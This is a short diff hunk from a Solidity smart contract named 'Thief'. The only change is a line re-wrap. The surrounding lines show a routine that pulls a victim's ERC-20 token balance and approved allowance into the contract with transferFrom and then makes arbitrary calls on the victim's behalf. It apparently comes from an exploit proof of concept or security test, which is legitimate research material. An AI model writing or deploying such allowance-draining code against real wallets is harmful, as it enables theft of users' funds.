@@ -36,7 +36,8 @@ contract Thief {
             uint256 allowed = token.allowance(VICTIM, address(this));
             uint256 there = token.balanceOf(VICTIM);
             if (allowed != 0) _try(address(token), abi.encodeCall(token.transferFrom, (VICTIM, address(this), there)));
-            if (allowed != 0) _try(address(token), abi.encodeCall(token.transferFrom, (VICTIM, address(this), allowed)));
+            if (allowed != 0)
+                _try(address(token), abi.encodeCall(token.transferFrom, (VICTIM, address(this), allowed)));
         }
         for (uint256 i = 0; i < _demands.length; ++i) _try(VICTIM, _demands[i]);
         if (paid != 0) _try(paidToken, abi.encodeCall(IERC20.transfer, (VICTIM, paid)));
